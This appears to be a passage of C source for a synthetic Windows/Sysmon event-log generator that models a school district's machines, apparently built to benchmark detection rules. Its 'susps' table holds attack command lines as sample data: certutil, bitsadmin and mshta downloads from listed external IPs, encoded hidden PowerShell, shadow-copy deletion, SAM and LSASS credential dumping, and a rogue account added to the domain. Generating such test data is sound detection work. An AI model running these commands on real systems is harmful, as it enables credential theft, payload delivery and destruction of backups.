/* wingen.c - Windows / Sysmon-like JSON event stream generator (hm-wingen).
 *
 *   hm-wingen [--events N] [--seed S] [--out FILE|-]
 *
 * Writes N JSON lines (default 1,000,000) in the evtx_dump nested shape read by
 * engine/decoders/dec_windows.c:
 *   {"Event":{"#attributes":{..},"System":{"Provider":{"#attributes":{"Name":..}},
 *    "EventID":1,...,"TimeCreated":{"#attributes":{"SystemTime":..}},...},
 *    "EventData":{"Image":..,"CommandLine":..}}}
 * for a school district's Windows fleet (schools' labs, libraries, offices, servers).
 * Mix: ~45% Sysmon 1 process creation, ~20% Sysmon 3 network connection, ~15% Sysmon 11
 * file create, ~10% Sysmon 13 registry set, ~5% Sysmon 22 DNS query, ~5% Security
 * 4624/4625 logons. Mostly benign; about 0.1% of the events are suspicious-looking
 * activity that SigmaHQ rules are written for (certutil download, encoded PowerShell,
 * shadow copy deletion, SAM hive dump, LSASS minidump, Run-key persistence...).
 * Output is a pure function of (N, seed). Standalone C11, no dependencies:
 *   gcc -O2 -g -std=c11 -D_GNU_SOURCE -Wall -Wextra -Werror -o build/hm-wingen bench/wingen.c */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---- deterministic PRNG (splitmix64) ---- */

static uint64_t rng;
static inline uint64_t rnd(void) {
    uint64_t z = (rng += 0x9E3779B97F4A7C15ULL);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    return z ^ (z >> 31);
}
static inline uint32_t rn(uint32_t n) {
    return (uint32_t)(((rnd() >> 32) * (uint64_t)n) >> 32);
}
static inline int chance(uint32_t per_million) {
    return rn(1000000) < per_million;
}
#define PICK(arr) (arr[rn((uint32_t)(sizeof(arr) / sizeof(arr[0])))])
/* one of an inline list: PICKV(int, 1, 2, 3) */
#define PICKV(T, ...) (((T[]){__VA_ARGS__})[rn((uint32_t)(sizeof((T[]){__VA_ARGS__}) / sizeof(T)))])
#define NELEM(a)      (sizeof(a) / sizeof((a)[0]))

/* ---- output buffer ---- */

#define OUT_CAP (4u << 20)
static char obuf[OUT_CAP];
static size_t olen;
static FILE *ofp;

static void flush_out(void) {
    if (olen && fwrite(obuf, 1, olen, ofp) != olen) {
        fprintf(stderr, "hm-wingen: write failed: %s\n", strerror(errno));
        exit(1);
    }
    olen = 0;
}
static inline void put(const char *s, size_t n) {
    memcpy(obuf + olen, s, n);
    olen += n;
}
#define PUTL(lit) put(lit, sizeof(lit) - 1)
static inline void puts_(const char *s) {
    put(s, strlen(s));
}
static inline void putc_(char c) {
    obuf[olen++] = c;
}
static void putu(uint64_t v) {
    char t[24];
    int i = 0;
    do t[i++] = (char)('0' + v % 10);
    while (v /= 10);
    while (i) obuf[olen++] = t[--i];
}
/* JSON string body (the value as Windows logs it; backslashes and quotes escaped). */
static void putesc(const char *s) {
    for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
        unsigned char c = *p;
        if (c == '\\' || c == '"') {
            obuf[olen++] = '\\';
            obuf[olen++] = (char)c;
        } else if (c < 0x20) {
            static const char hx[] = "0123456789abcdef";
            if (c == '\n')
                PUTL("\\n");
            else if (c == '\r')
                PUTL("\\r");
            else if (c == '\t')
                PUTL("\\t");
            else {
                PUTL("\\u00");
                obuf[olen++] = hx[c >> 4];
                obuf[olen++] = hx[c & 15];
            }
        } else {
            obuf[olen++] = (char)c;
        }
    }
}
static void puthex(uint64_t v, int digits, int upper) {
    const char *hx = upper ? "0123456789ABCDEF" : "0123456789abcdef";
    for (int i = digits - 1; i >= 0; i--) obuf[olen++] = hx[(v >> (i * 4)) & 15];
}
/* "key":"escaped value" with a leading comma */
static void kv(const char *key, const char *val) {
    putc_(',');
    putc_('"');
    puts_(key);
    PUTL("\":\"");
    putesc(val);
    putc_('"');
}
static void kvu(const char *key, uint64_t v) {
    putc_(',');
    putc_('"');
    puts_(key);
    PUTL("\":");
    putu(v);
}
static void guid(int braces) {
    if (braces) putc_('{');
    puthex(rnd(), 8, 0);
    putc_('-');
    puthex(rnd(), 4, 0);
    putc_('-');
    puthex(rnd(), 4, 0);
    putc_('-');
    puthex(rnd(), 4, 0);
    putc_('-');
    puthex(rnd(), 12, 0);
    if (braces) putc_('}');
}
static void kguid(const char *key) {
    putc_(',');
    putc_('"');
    puts_(key);
    PUTL("\":\"");
    guid(1);
    putc_('"');
}

/* ---- time ---- */

static void civil_from_days(int64_t z, int *y, unsigned *m, unsigned *d) {
    z += 719468;
    int64_t era = (z >= 0 ? z : z - 146096) / 146097;
    unsigned doe = (unsigned)(z - era * 146097);
    unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    int64_t yy = (int64_t)yoe + era * 400;
    unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    unsigned mp = (5 * doy + 2) / 153;
    *d = doy - (153 * mp + 2) / 5 + 1;
    *m = mp < 10 ? mp + 3 : mp - 9;
    *y = (int)(yy + (*m <= 2));
}
static void put2(unsigned v) {
    obuf[olen++] = (char)('0' + v / 10 % 10);
    obuf[olen++] = (char)('0' + v % 10);
}
/* us since epoch -> "YYYY-MM-DD?HH:MM:SS.ffffff" (sep 'T' or ' '), frac digits 6 or 3 */
static void puttime(int64_t us, char sep, int frac_digits) {
    int64_t s = us / 1000000, f = us % 1000000;
    int64_t days = s / 86400, sod = s % 86400;
    int y;
    unsigned m, d;
    civil_from_days(days, &y, &m, &d);
    putu((uint64_t)y);
    putc_('-');
    put2(m);
    putc_('-');
    put2(d);
    putc_(sep);
    put2((unsigned)(sod / 3600));
    putc_(':');
    put2((unsigned)(sod / 60 % 60));
    putc_(':');
    put2((unsigned)(sod % 60));
    putc_('.');
    if (frac_digits == 3) {
        f /= 1000;
        putc_((char)('0' + f / 100));
        put2((unsigned)(f % 100));
    } else {
        put2((unsigned)(f / 10000));
        put2((unsigned)(f / 100 % 100));
        put2((unsigned)(f % 100));
    }
}

/* ---- the district ---- */

static const char *const first_names[] = {
    "maria",  "james",   "linda",  "robert", "patricia", "michael", "jennifer", "david",
    "elena",  "william", "susan",  "thomas", "karen",    "daniel",  "nancy",    "kevin",
    "angela", "brian",   "tanya",  "jorge",  "mei",      "ahmed",   "grace",    "luis",
    "olivia", "marcus",  "hannah", "diego",  "priya",    "sean"};
static const char *const last_names[] = {
    "garcia",   "nguyen", "smith",   "johnson", "brooks",   "patel",  "ramirez",  "kim",
    "williams", "lopez",  "brown",   "davis",   "martinez", "wilson", "anderson", "thomas",
    "taylor",   "moore",  "jackson", "martin",  "lee",      "perez",  "thompson", "white",
    "harris",   "clark",  "lewis",   "walker",  "hall",     "young"};
static const char *const schools[] = {"LHS", "WHS", "RMS", "JMS", "ES1", "ES2",
                                      "ES3", "ES4", "ES5", "ES6", "DO"};
static const char *const room_kinds[] = {"LAB",   "LAB",    "LAB",  "LIB",  "STAFF",
                                         "STAFF", "OFFICE", "CART", "ADMIN"};

#define N_HOSTS   480
#define N_USERS   1500
#define N_SERVERS 6
typedef struct host {
    char name[48];
    int user;    /* primary user index */
    uint32_t ip; /* 10.x.y.z */
    uint32_t sysmon_pid, lsass_pid;
    uint64_t rec_sysmon, rec_sec;
    int student; /* lab/library/cart: student logons */
} host;
typedef struct user {
    char name[32];
    char sid[64];
    int student;
} user;

static host hosts[N_HOSTS + N_SERVERS];
static user users[N_USERS];
static const char *const server_names[N_SERVERS] = {"DC01",    "DC02",      "LHS-FS01",
                                                    "DO-FS01", "DO-SCCM01", "DO-PRINT01"};

static void build_district(void) {
    for (int i = 0; i < N_USERS; i++) {
        user *u = &users[i];
        const char *f = PICK(first_names), *l = PICK(last_names);
        u->student = i >= 300; /* first 300 are staff */
        if (u->student)
            snprintf(u->name, sizeof u->name, "%c.%s%02u", f[0], l, 24 + rn(12));
        else if (i < 12)
            snprintf(u->name, sizeof u->name, "it-%c%s", f[0], l);
        else
            snprintf(u->name, sizeof u->name, "%c%s", f[0], l);
        snprintf(u->sid, sizeof u->sid, "S-1-5-21-3623811015-3361044348-30300820-%u", 1100 + i);
    }
    for (int i = 0; i < N_HOSTS; i++) {
        host *h = &hosts[i];
        const char *sc = schools[i % NELEM(schools)];
        const char *rk = PICK(room_kinds);
        snprintf(h->name, sizeof h->name, "%s-%s-%02d.district.k12.local", sc, rk,
                 i / (int)NELEM(schools) + 1);
        h->student = !strcmp(rk, "LAB") || !strcmp(rk, "LIB") || !strcmp(rk, "CART");
        h->user = h->student ? 300 + (int)rn(N_USERS - 300) : 12 + (int)rn(288);
        h->ip = (10u << 24) | ((uint32_t)(10 + i % NELEM(schools) * 4) << 16) |
                ((uint32_t)(i / 200) << 8) | (uint32_t)(20 + i % 200);
        h->sysmon_pid = 2400 + rn(1800) * 4;
        h->lsass_pid = 600 + rn(100) * 4;
        h->rec_sysmon = 100000 + rn(900000);
        h->rec_sec = 1000000 + rn(9000000);
    }
    for (int i = 0; i < N_SERVERS; i++) {
        host *h = &hosts[N_HOSTS + i];
        snprintf(h->name, sizeof h->name, "%s.district.k12.local", server_names[i]);
        h->user = (int)rn(12);
        h->ip = (10u << 24) | (1u << 16) | (1u << 8) | (uint32_t)(10 + i);
        h->sysmon_pid = 2400 + rn(1800) * 4;
        h->lsass_pid = 600 + rn(100) * 4;
        h->rec_sysmon = 1000000 + rn(900000);
        h->rec_sec = 10000000 + rn(90000000);
    }
}

/* ---- processes ---- */

enum { U_USER, U_SYSTEM, U_LOCALSVC, U_NETSVC };
typedef struct parent {
    const char *image, *cmd;
    int who;
} parent;
static const parent parents[] = {
    /* 0 */ {"C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", U_USER},
    /* 1 */
    {"C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", U_SYSTEM},
    /* 2 */
    {"C:\\Windows\\System32\\svchost.exe",
     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", U_SYSTEM},
    /* 3 */
    {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" ", U_USER},
    /* 4 */
    {"C:\\Windows\\System32\\cmd.exe",
     "C:\\Windows\\system32\\cmd.exe /c \"\\\\district.k12.local\\NETLOGON\\logon.bat\"", U_USER},
    /* 5 */ {"C:\\Windows\\System32\\userinit.exe", "C:\\Windows\\system32\\userinit.exe", U_USER},
    /* 6 */ {"C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe", U_SYSTEM},
    /* 7 */
    {"C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
     "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", U_NETSVC},
    /* 8 */
    {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
     "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument",
     U_USER},
    /* 9 */
    {"C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", U_SYSTEM},
    /* 10 */
    {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
     U_SYSTEM},
    /* 11 */
    {"C:\\Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe",
     "\"C:\\Program "
     "Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe\" ",
     U_USER},
    /* 12 */
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoProfile -ExecutionPolicy Bypass -File "
     "\"\\\\district.k12.local\\NETLOGON\\map-drives.ps1\"",
     U_USER},
};

/* Command templates: %U user, %N number, %n small number, %D document, %H 8 hex, %P parent pid,
 * %G guid, %E base64 of a benign encoded command. */
typedef struct proc {
    const char *image, *ofn, *desc, *product, *company, *version;
    int who, weight;
    int parents[4]; /* indices into parents[], -1 terminated */
    const char *cmds[5];
} proc;

#define MSWIN  "Microsoft\xC2\xAE Windows\xC2\xAE Operating System"
#define MSCORP "Microsoft Corporation"
static const proc procs[] = {
    {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "chrome.exe",
     "Google Chrome",
     "Google Chrome",
     "Google LLC",
     "122.0.6261.112",
     U_USER,
     150,
     {3, 3, 0, -1},
     {"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer "
      "--display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 "
      "--num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=%n "
      "--time-ticks-at-unix-epoch=-1710%N --launch-time-ticks=%N --mojo-platform-channel-handle=%N "
      "--field-trial-handle=1896,i,%N,%N,262144 /prefetch:1",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility "
      "--utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none "
      "--mojo-platform-channel-handle=%N --field-trial-handle=1896,i,%N,%N,262144 /prefetch:8",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=gpu-process "
      "--gpu-preferences="
      "WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAEAAAA4AAAAAAAAAAAAAAAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
      "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --mojo-platform-channel-handle=%N "
      "--field-trial-handle=1896,i,%N,%N,262144 /prefetch:2",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" ", NULL}},
    {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
     "msedge.exe",
     "Microsoft Edge",
     "Microsoft Edge",
     MSCORP,
     "122.0.2365.80",
     U_USER,
     45,
     {8, 8, 0, -1},
     {"\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=renderer "
      "--lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --renderer-client-id=%n "
      "--mojo-platform-channel-handle=%N --field-trial-handle=2072,i,%N,%N,262144 /prefetch:1",
      "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility "
      "--utility-sub-type=storage.mojom.StorageService --lang=en-US --service-sandbox-type=service "
      "--mojo-platform-channel-handle=%N /prefetch:8",
      NULL}},
    {"C:\\Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe",
     "ms-teams.exe",
     "Microsoft Teams",
     "Microsoft Teams",
     MSCORP,
     "24033.811.2738.2546",
     U_USER,
     20,
     {0, 11, -1},
     {"\"C:\\Program "
      "Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe\" "
      "msteams:system-initiated",
      "\"C:\\Program "
      "Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe\" ",
      NULL}},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
     "WinWord.exe",
     "Microsoft Word",
     "Microsoft Office",
     MSCORP,
     "16.0.17328.20162",
     U_USER,
     18,
     {0, 0, 11, -1},
     {"\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n "
      "\"C:\\Users\\%U\\Documents\\%D.docx\" /o \"\"",
      "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n "
      "\"C:\\Users\\%U\\OneDrive - District\\%D.docx\"",
      NULL}},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
     "Excel.exe",
     "Microsoft Excel",
     "Microsoft Office",
     MSCORP,
     "16.0.17328.20162",
     U_USER,
     10,
     {0, 11, -1},
     {"\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" "
      "\"C:\\Users\\%U\\Documents\\%D.xlsx\"",
      NULL}},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\POWERPNT.EXE",
     "POWERPNT.EXE",
     "Microsoft PowerPoint",
     "Microsoft Office",
     MSCORP,
     "16.0.17328.20162",
     U_USER,
     6,
     {0, -1},
     {"\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\POWERPNT.EXE\" "
      "\"C:\\Users\\%U\\OneDrive - District\\%D.pptx\" /ou \"\"",
      NULL}},
    {"C:\\Windows\\System32\\svchost.exe",
     "svchost.exe",
     "Host Process for Windows Services",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_SYSTEM,
     40,
     {1, -1},
     {"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc",
      "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s ClipSVC",
      "C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup",
      "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s wscsvc",
      "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS"}},
    {"C:\\Windows\\System32\\conhost.exe",
     "CONHOST.EXE",
     "Console Window Host",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_USER,
     30,
     {4, 12, -1},
     {"\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", NULL}},
    {"C:\\Windows\\System32\\cmd.exe",
     "Cmd.Exe",
     "Windows Command Processor",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_USER,
     16,
     {5, 0, 2, -1},
     {"C:\\Windows\\system32\\cmd.exe /c \"\\\\district.k12.local\\NETLOGON\\logon.bat\"",
      "\"C:\\Windows\\system32\\cmd.exe\" ",
      "C:\\Windows\\system32\\cmd.exe /c gpupdate /target:user /force",
      "cmd.exe /c \"C:\\ProgramData\\District\\printers\\add-lab-printers.cmd\"", NULL}},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "PowerShell.EXE",
     "Windows PowerShell",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_USER,
     16,
     {4, 5, 6, -1},
     {"powershell.exe -NoProfile -ExecutionPolicy Bypass -File "
      "\"\\\\district.k12.local\\NETLOGON\\map-drives.ps1\"",
      "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NonInteractive "
      "-Command \"Get-Printer | Where-Object {$_.Name -like 'LAB*'}\"",
      "powershell.exe -ExecutionPolicy Bypass -NoProfile -NonInteractive -File "
      "\"C:\\Windows\\CCM\\SystemTemp\\%G.ps1\"",
      "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile "
      "-NonInteractive -EncodedCommand %E",
      NULL}},
    {"C:\\Windows\\System32\\rundll32.exe",
     "RUNDLL32.EXE",
     "Windows host process (Rundll32)",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_USER,
     12,
     {10, 0, -1},
     {"C:\\Windows\\system32\\rundll32.exe "
      "C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll "
      "{9aa46009-3ce0-458a-a354-715610a075e6} -Embedding",
      "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask",
      "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\printui.dll,PrintUIEntry /in /n "
      "\"\\\\DO-PRINT01\\%D\"",
      NULL}},
    {"C:\\Windows\\System32\\msiexec.exe",
     "msiexec.exe",
     "Windows\xC2\xAE installer",
     MSWIN,
     MSCORP,
     "5.0.19041.3996 (WinBuild.160101.0800)",
     U_SYSTEM,
     6,
     {6, 9, -1},
     {"C:\\Windows\\system32\\msiexec.exe /V",
      "C:\\Windows\\System32\\MsiExec.exe -Embedding %H%H C",
      "msiexec.exe /i \"C:\\Windows\\ccmcache\\%n\\GoogleChromeStandaloneEnterprise64.msi\" /qn "
      "REBOOT=ReallySuppress",
      NULL}},
    {"C:\\Windows\\System32\\schtasks.exe",
     "schtasks.exe",
     "Task Scheduler Configuration Tool",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_SYSTEM,
     4,
     {6, 12, -1},
     {"\"C:\\Windows\\system32\\schtasks.exe\" /query /fo CSV /nh",
      "schtasks.exe /Run /TN \"\\Microsoft\\Office\\Office Automatic Updates 2.0\"", NULL}},
    {"C:\\Windows\\System32\\reg.exe",
     "reg.exe",
     "Registry Console Tool",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_SYSTEM,
     4,
     {4, 6, -1},
     {"reg.exe query \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\" /s",
      "reg.exe add \"HKCU\\Software\\Microsoft\\Office\\16.0\\Common\\General\" /v "
      "ShownFirstRunOptin /t REG_DWORD /d 1 /f",
      NULL}},
    {"C:\\Windows\\System32\\wbem\\WMIC.exe",
     "wmic.exe",
     "WMI Commandline Utility",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_SYSTEM,
     3,
     {6, 4, -1},
     {"wmic.exe computersystem get model,manufacturer /format:list",
      "wmic  path win32_battery get estimatedchargeremaining", NULL}},
    {"C:\\Windows\\System32\\certutil.exe",
     "CertUtil.exe",
     "CertUtil.exe",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_SYSTEM,
     2,
     {6, 2, -1},
     {"certutil.exe -user -pulse", "C:\\Windows\\system32\\certutil.exe -verifystore Root", NULL}},
    {"C:\\Windows\\System32\\RuntimeBroker.exe",
     "RuntimeBroker.exe",
     "Runtime Broker",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_USER,
     12,
     {10, -1},
     {"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", NULL}},
    {"C:\\Windows\\System32\\taskhostw.exe",
     "taskhostw.exe",
     "Host Process for Windows Tasks",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_USER,
     10,
     {2, -1},
     {"taskhostw.exe", "taskhostw.exe KEYROAMING", "taskhostw.exe Install $(Arg0)", NULL}},
    {"C:\\Windows\\System32\\SearchProtocolHost.exe",
     "searchprotocolhost.exe",
     "Microsoft Windows Search Protocol Host",
     MSWIN,
     MSCORP,
     "7.0.19041.3996 (WinBuild.160101.0800)",
     U_SYSTEM,
     10,
     {1, -1},
     {"\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe%n_ "
      "Global\\UsGthrCtrlFltPipeMssGthrPipe%n 1 -2147483646 \"Software\\Microsoft\\Windows "
      "Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" "
      "\"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\" ",
      NULL}},
    {"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe",
     "OneDrive.exe",
     "Microsoft OneDrive",
     "Microsoft OneDrive",
     MSCORP,
     "24.030.0211.0002",
     U_USER,
     8,
     {0, 5, -1},
     {"\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background",
      "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /updateInstalled /background",
      NULL}},
    {"C:\\Windows\\System32\\gpupdate.exe",
     "gpupdate.exe",
     "Microsoft\xC2\xAE Windows\xC2\xAE Group Policy Update Utility",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_USER,
     3,
     {4, -1},
     {"gpupdate  /target:user /force", "gpupdate.exe /target:computer", NULL}},
    {"C:\\Windows\\System32\\notepad.exe",
     "NOTEPAD.EXE",
     "Notepad",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_USER,
     3,
     {0, -1},
     {"\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\%U\\Documents\\%D.txt", NULL}},
    {"C:\\Users\\%U\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe",
     "Zoom.exe",
     "Zoom Meetings",
     "Zoom Meetings",
     "Zoom Video Communications, Inc.",
     "5.17.11.34827",
     U_USER,
     5,
     {0, 3, -1},
     {"\"C:\\Users\\%U\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe\" "
      "\"--url=zoommtg://district.zoom.us/join?action=join&confno=8%N\"",
      NULL}},
    {"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
     "GoogleUpdate.exe",
     "Google Installer",
     "Google Update",
     "Google LLC",
     "1.3.36.372",
     U_SYSTEM,
     4,
     {2, -1},
     {"\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ua /installsource scheduler",
      "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /c", NULL}},
    {"C:\\Windows\\System32\\CompatTelRunner.exe",
     "CompatTelRunner.exe",
     "Microsoft Compatibility Telemetry",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_SYSTEM,
     3,
     {2, -1},
     {"C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun "
      "-cv:%H.1",
      NULL}},
    {"C:\\Windows\\CCM\\CcmExec.exe",
     "CcmExec.exe",
     "CCM Executive",
     "System Center Configuration Manager",
     MSCORP,
     "5.00.9122.1000",
     U_SYSTEM,
     2,
     {1, -1},
     {"C:\\Windows\\CCM\\CcmExec.exe", NULL}},
    {"C:\\Windows\\System32\\backgroundTaskHost.exe",
     "backgroundTaskHost.exe",
     "Background Task Host",
     MSWIN,
     MSCORP,
     "10.0.19041.3996 (WinBuild.160101.0800)",
     U_USER,
     6,
     {10, -1},
     {"\"C:\\Windows\\system32\\backgroundTaskHost.exe\" "
      "-ServerName:BackgroundTaskHost.WebAccountProvider",
      NULL}},
};

/* Suspicious activity (~0.1% of the stream): what SigmaHQ process_creation rules hit. */
typedef struct susp {
    const char *image, *ofn, *cmd;
    int parent;
} susp;
static const susp susps[] = {
    {"C:\\Windows\\System32\\certutil.exe", "CertUtil.exe",
     "certutil.exe -urlcache -split -f http://%I/files/update.exe C:\\Users\\Public\\update.exe",
     4},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE",
     "powershell.exe -nop -w hidden -enc %X", 4},
    {"C:\\Windows\\System32\\vssadmin.exe", "VSSADMIN.EXE",
     "vssadmin.exe delete shadows /all /quiet", 4},
    {"C:\\Windows\\System32\\whoami.exe", "whoami.exe", "whoami /priv", 4},
    {"C:\\Windows\\System32\\reg.exe", "reg.exe", "reg save hklm\\sam C:\\Windows\\Temp\\sam.save",
     4},
    {"C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %L C:\\Windows\\Temp\\debug.dmp "
     "full",
     12},
    {"C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe", "wmic shadowcopy delete /nointeractive",
     4},
    {"C:\\Windows\\System32\\net.exe", "net.exe", "net user helpdesk2 Winter2024! /add /domain", 4},
    {"C:\\Windows\\System32\\bitsadmin.exe", "bitsadmin.exe",
     "bitsadmin /transfer updjob /download /priority high http://%I/a.ps1 C:\\Users\\Public\\a.ps1",
     4},
    {"C:\\Windows\\System32\\mshta.exe", "MSHTA.EXE", "mshta.exe http://%I/gate.hta", 0},
    {"C:\\Windows\\System32\\schtasks.exe", "schtasks.exe",
     "schtasks /create /sc minute /mo 5 /tn \"OneDrive Sync Helper\" /tr "
     "\"C:\\Users\\Public\\update.exe\" /f",
     4},
    {"C:\\Windows\\System32\\bcdedit.exe", "bcdedit.exe",
     "bcdedit /set {default} recoveryenabled No", 4},
    {"C:\\Windows\\System32\\nltest.exe", "nltestrk.exe", "nltest /domain_trusts /all_trusts", 4},
};
static const char *const bad_ips[] = {"45.137.21.9", "91.215.85.17", "185.220.101.47",
                                      "194.26.29.113", "103.145.13.40"};

/* ---- base64 of UTF-16LE (PowerShell -EncodedCommand) ---- */

static char enc_benign[4][512], enc_bad[2][512];
static void b64_utf16(const char *s, char *out) {
    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    unsigned char in[512];
    size_t n = 0;
    for (; *s && n + 2 < sizeof in; s++) {
        in[n++] = (unsigned char)*s;
        in[n++] = 0;
    }
    size_t o = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)in[i] << 16 | (i + 1 < n ? (uint32_t)in[i + 1] << 8 : 0) |
                     (i + 2 < n ? in[i + 2] : 0);
        out[o++] = b64[v >> 18 & 63];
        out[o++] = b64[v >> 12 & 63];
        out[o++] = i + 1 < n ? b64[v >> 6 & 63] : '=';
        out[o++] = i + 2 < n ? b64[v & 63] : '=';
    }
    out[o] = 0;
}
static void build_encoded(void) {
    b64_utf16("Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object Caption,Version",
              enc_benign[0]);
    b64_utf16("(Get-ItemProperty 'HKLM:\\SOFTWARE\\District\\Inventory').AssetTag", enc_benign[1]);
    b64_utf16("Get-BitLockerVolume -MountPoint C: | Select-Object ProtectionStatus", enc_benign[2]);
    b64_utf16("Restart-Service -Name Spooler -Force", enc_benign[3]);
